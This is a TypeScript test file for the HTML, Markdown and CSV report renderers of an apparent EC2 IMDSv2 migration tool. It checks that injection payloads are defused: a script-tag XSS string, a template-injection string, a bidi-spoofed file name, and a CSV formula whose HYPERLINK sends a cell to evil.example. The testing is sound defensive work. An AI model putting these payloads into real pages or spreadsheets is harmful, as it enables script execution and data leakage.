import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { generateFleet, makeAssessment, makeInstance } from '@imdsv2-cutover/test-utils';
import { HOSTILE, demoFleet, planFor } from './__fixtures__/fleet.js';
import {
  CSV_COLUMNS,
  buildReportModel,
  jsonForScript,
  md,
  renderCsv,
  renderHtml,
  renderMarkdown,
  renderReports,
} from './index.js';

const opts = { generatedAt: '2026-11-21T09:00:00.000Z', toolVersion: '0.1.0' };

function model(hostile = false, extra: Partial<Parameters<typeof buildReportModel>[1]> = {}) {
  const f = demoFleet({ hostile });
  return buildReportModel({ assessment: f.assessment, plan: f.plan, journal: f.journalSummary }, { ...opts, ...extra });
}

describe('buildReportModel', () => {
  it('counts readiness, groups blockers by culprit with fixes and owners, and dates the waves', () => {
    const m = model(false, { startDate: '2026-12-01' });
    const total = m.summary.byStatus.reduce((s, c) => s + c.count, 0);
    expect(total).toBe(40);
    const boto = m.blockers.find((b) => b.culprit === 'botocore 1.12.0')!;
    expect(boto.kind).toBe('package');
    expect(boto.remediations).toEqual(['upgrade botocore to 1.13.25 or later']);
    expect(boto.owners.length).toBeGreaterThan(0);
    expect(m.blockers.some((b) => b.kind === 'unidentified' && b.detail === 'probe: not-managed')).toBe(true);
    expect(m.waves[0]).toMatchObject({ start: '2026-12-01 00:00', end: '2026-12-02 00:00', soak: '1d' });
    expect(m.waves[1]!.start).toBe('2026-12-02 00:00');
    expect(m.launchers.map((l) => l.kind)).toEqual(['Auto Scaling group', 'Launch template']);
    expect(m.rollback.commands.map((c) => c.command)).toContain('imdsv2 rollback --journal journal.jsonl --all');
    expect(m.journal?.waves.map((w) => [w.wave, w.state, w.applied, w.rolledBack])).toEqual([
      ['0', 'completed', 2, 0],
      ['1', 'rolled-back', 4, 4],
    ]);
    expect(m.rows.filter((r) => r.journalState === 'rolled-back')).toHaveLength(4);
  });

  it('is deterministic and keeps unknown metric data apart from zero', () => {
    expect(JSON.stringify(model())).toBe(JSON.stringify(model()));
    const unknown = model().rows.find((r) => r.status === 'unknown')!;
    expect(unknown.imdsv1Calls).toBeNull();
  });

  it('warns loudly about incomplete data and a plan made from another assessment', () => {
    const a = makeAssessment([makeInstance()], {
      complete: false,
      regions: [
        {
          accountId: '111111111111',
          region: 'us-east-1',
          status: 'failed',
          error: { code: 'AccessDenied', message: 'no access' },
          accountDefaults: null,
        },
      ],
    });
    const other = planFor(makeAssessment([makeInstance(), makeInstance({ instanceId: 'i-0000000000000002' })]));
    const m = buildReportModel({ assessment: a, plan: other }, opts);
    expect(m.warnings.join('\n')).toMatch(/INCOMPLETE/);
    expect(m.warnings.join('\n')).toMatch(/us-east-1 is failed: no access/);
    expect(m.warnings.join('\n')).toMatch(/different assessment/);
  });

  it('renders without a plan or journal', () => {
    const m = buildReportModel({ assessment: generateFleet({ count: 30 }) }, opts);
    const r = renderReports(m);
    expect(r.html).toContain('No plan given');
    expect(r.md).toContain('No plan given');
    expect(r.csv?.split('\r\n').length).toBe(32);
  });

  it('shows the enforced-share trend only when at least two runs are known', () => {
    const a = generateFleet({ count: 30 });
    const runs = [
      { id: 'r1', createdAt: '2026-11-01T00:00:00.000Z', complete: true, enforced: 3, eligible: 30, sharePercent: 10 },
      { id: 'r2', createdAt: '2026-11-08T00:00:00.000Z', complete: false, enforced: 0, eligible: 30, sharePercent: 0 },
      { id: 'r3', createdAt: '2026-11-15T00:00:00.000Z', complete: true, enforced: 15, eligible: 30, sharePercent: 50 },
    ];
    const one = renderReports(buildReportModel({ assessment: a, trend: runs.slice(0, 1) }, opts));
    expect(one.html).not.toContain('id="trend"');
    const r = renderReports(buildReportModel({ assessment: a, trend: runs }, opts));
    expect(r.html).toContain('id="trend"');
    expect(r.html).toMatch(/<td class="n">0%<\/td><td>no<\/td>/);
    expect(r.html).toContain('from 2026-11-01 (10%) to 2026-11-15 (50%), 3 runs');
    expect(r.md).toContain('| 2026-11-15T00:00:00.000Z | 15 | 30 | 50% | yes |');
  });
});

describe('renderHtml', () => {
  const html = renderHtml(model(true));

  it('allows exactly its own inline style and script by hash, and nothing else', () => {
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)![1]!;
    const style = /<style>([\s\S]*?)<\/style>/.exec(html)![1]!;
    const script = /<script>([\s\S]*?)<\/script>/.exec(html)![1]!;
    const h = (t: string) => `'sha256-${createHash('sha256').update(t).digest('base64')}'`;
    expect(csp).toBe(
      `default-src 'none'; style-src ${h(style)}; script-src ${h(script)}; img-src data:; base-uri 'none'; form-action 'none'`,
    );
    expect(html.match(/<script\b/g)).toHaveLength(2); // the JSON data block and the one inline script
    // Outside the JSON data block (where text is inert) no attribute could load or run anything.
    const markup = html.slice(0, html.indexOf('<script type="application/json"'));
    expect(markup).not.toMatch(/\sstyle=|\son\w+=|\shref="(?!#)|\ssrc=/i);
  });

  it('escapes every hostile string and neutralises bidi overrides', () => {
    for (const s of HOSTILE) {
      if (/[<>"]/.test(s)) expect(html).not.toContain(s);
    }
    expect(html).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(html).toContain('safe\\u202egnp.exe\\u202c name');
    expect(html).toContain('&lt;script&gt;window.__pwned&#x3D;1&lt;/script&gt;');
    expect(html).toContain('{{constructor.constructor(&quot;window.__pwned&#x3D;1&quot;)()}}');
  });

  it('embeds the instance data as JSON that cannot close its script element', () => {
    const data = /<script type="application\/json" id="instance-data">([\s\S]*?)<\/script>/.exec(html)![1]!;
    expect(data).not.toMatch(/[<>&\u2028\u2029]/);
    const parsed = JSON.parse(data) as { rows: unknown[][] };
    expect(parsed.rows).toHaveLength(40);
    expect(jsonForScript({ a: '</script>\u2028&' })).toBe('{"a":"\\u003c/script\\u003e\\u2028\\u0026"}');
  });

  it('renders at most the inline row limit as HTML rows and says where the rest is', () => {
    const big = buildReportModel({ assessment: generateFleet({ count: 300 }) }, opts);
    const out = renderHtml(big, { inlineRows: 100 });
    const tbody = /<table id="instances">[\s\S]*?<tbody>([\s\S]*?)<\/tbody>/.exec(out)![1]!;
    expect(tbody.match(/<tr>/g)).toHaveLength(100);
    expect(out).toContain('The first 100 of 300 instances');
  });
});

describe('renderMarkdown', () => {
  const text = renderMarkdown(model(true));

  it('escapes HTML and Markdown in untrusted strings so tables keep their shape', () => {
    expect(text).not.toMatch(/<script|<img|<svg|<\/script|\]\(javascript/i);
    expect(text).not.toMatch(/[\u202a-\u202e]/);
    const blockerRows = text.split('\n').filter((l) => l.startsWith('| package:') || l.startsWith('| process:'));
    for (const row of blockerRows) expect(row.split(/(?<!\\)\|/).length).toBe(7);
    expect(md('a|b*c_[d](e)`f`<g>')).toBe('a\\|b\\*c\\_\\[d\\]\\(e\\)\\`f\\`&lt;g&gt;');
  });
});

describe('renderCsv', () => {
  it('writes one row per instance, quoted per RFC 4180, with formula cells defused', () => {
    const csv = renderCsv(model(true));
    const rows = parse<string[]>(csv, { relax_column_count: false });
    expect(rows[0]).toEqual(CSV_COLUMNS);
    expect(rows).toHaveLength(41);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const names = rows.slice(1).map((r) => r[1]);
    expect(names).toContain('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(names).toContain("'-2+3");
    expect(names).toContain("'\\x09TAB");
    expect(csv).not.toMatch(/[\u202a-\u202e]/);
  });
});
